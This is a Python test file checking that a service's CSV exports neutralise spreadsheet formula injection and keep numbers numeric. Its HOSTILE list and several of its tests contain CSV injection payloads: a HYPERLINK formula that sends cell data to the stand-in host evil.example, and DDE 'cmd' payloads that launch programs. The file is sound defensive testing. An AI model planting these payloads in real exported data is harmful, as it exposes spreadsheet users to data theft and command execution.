"""Every CSV the service writes goes through one writer that neutralises spreadsheet formulas
(OWASP's CSV injection advice) and leaves numbers numeric."""

from __future__ import annotations

import ast
import csv
import io

import pytest

from app.core.csvfile import SafeWriter, csv_text, is_number, neutralise
from app.db import new_session
from config import ROOT
from models import Cluster, Dataset
from tests.web.datasets_common import created_id, form_data
from tests.web.match_common import food_datasets
from tests.web.test_clusters_common import seed_topics
from tests.web.test_data_gaps import _gap_world

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_like_cell_gets_a_leading_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    (row,) = _rows(csv_text(["cell"], [[cell]]))[1:]
    assert row == ["'" + cell]


def test_text_that_is_not_a_formula_is_left_alone() -> None:
    for cell in ("How many families use food banks?", "'=already quoted", " =spaced", ""):
        assert neutralise(cell) == cell


def test_numbers_stay_numbers_where_the_column_is_numeric() -> None:
    out = io.StringIO()
    writer = SafeWriter(out, numeric={1})
    writer.writerow(["-0.5", "-0.5", -0.5, -3, None])
    writer.writerow(["-1+1", "-1+1", 2.25, True, ""])
    first, second = _rows(out.getvalue())
    # A text column is neutralised even when a cell looks like a number; a numeric column and
    # real numbers are not, but a formula in a numeric column still is.
    assert first == ["'-0.5", "-0.5", "-0.5", "-3", ""]
    assert second == ["'-1+1", "'-1+1", "2.25", "True", ""]
    assert [is_number(s) for s in ("-0.5", "+3", "1e-3", ".5", "1,5", "-", "1-2")] == [
        True,
        True,
        True,
        True,
        False,
        False,
        False,
    ]


def test_only_the_shared_writer_makes_csv_writers() -> None:
    """No exporter keeps its own csv.writer (which would skip the neutralising)."""
    offending = []
    for path in (ROOT / "app").rglob("*.py"):
        if path == ROOT / "app/core/csvfile.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in {"writer", "DictWriter"}
            ):
                offending.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offending == []


def test_dataset_export_neutralises_every_text_column_and_keeps_ids_numeric(
    app, client, auth, make_user
) -> None:
    make_user()
    auth.login()
    dataset_id = created_id(
        client.post(
            "/datasets/new",
            data=form_data(
                title="=HYPERLINK(evil)",
                description="@SUM(1+1)*cmd|' /C calc'!A0 and more words to pass the length",
                publisher="-2+3+cmd|' /C calc'!A0",
                keywords="=cmd|' /C calc'!A0; referrals",
            ),
        )
    )
    with app.app_context(), new_session(app) as session:
        session.get(Dataset, dataset_id).size = "-0.5"  # a text column, whatever it looks like
        session.commit()
    for path in ("/datasets/export.csv", "/api/v1/datasets/export.csv"):
        (row,) = list(csv.DictReader(io.StringIO(client.get(path).text)))
        assert row["id"] == str(dataset_id)
        assert row["title"] == "'=HYPERLINK(evil)"
        assert row["description"].startswith("'@SUM")
        assert row["publisher"] == "'-2+3+cmd|' /C calc'!A0"
        assert row["keywords"] == "'=cmd|' /C calc'!A0; referrals"
        assert row["size"] == "'-0.5"


def test_gaps_csv_neutralises_a_title_made_of_a_tab_and_keeps_its_figures(
    app, client, make_question, make_user
) -> None:
    groups = _gap_world(app, make_question, make_user)
    with app.app_context(), new_session(app) as session:
        session.get(Cluster, groups["transport"]).title = "\t=1+1"
        session.commit()
    header, row = _rows(client.get("/groups/gaps.csv").text)[:2]
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == "'\t=1+1"
    assert cells["group_id"] == str(groups["transport"])
    assert int(cells["questions"]) >= 1 and cells["support"].isdigit()


def test_feedback_export_neutralises_reasons(
    app, client, runner, make_question, make_user, tmp_path
) -> None:
    group = seed_topics(app, make_question, make_user)["food"][0]
    make_user()
    first, _ = food_datasets(app)
    token = runner.invoke(args=["users", "token", "member@example.org"]).output.strip()
    answer = client.post(
        f"/api/v1/clusters/{group}/matches/{first}/feedback",
        json={"reason": "@SUM(1+1)*cmd|' /C calc'!A0"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert answer.status_code == 201
    out = tmp_path / "feedback.csv"
    assert runner.invoke(args=["insight", "feedback-export", "--out", str(out)]).exit_code == 0
    row = _rows(out.read_text(encoding="utf-8"))[1]
    assert row[:3] == [str(group), str(first), "'@SUM(1+1)*cmd|' /C calc'!A0"]
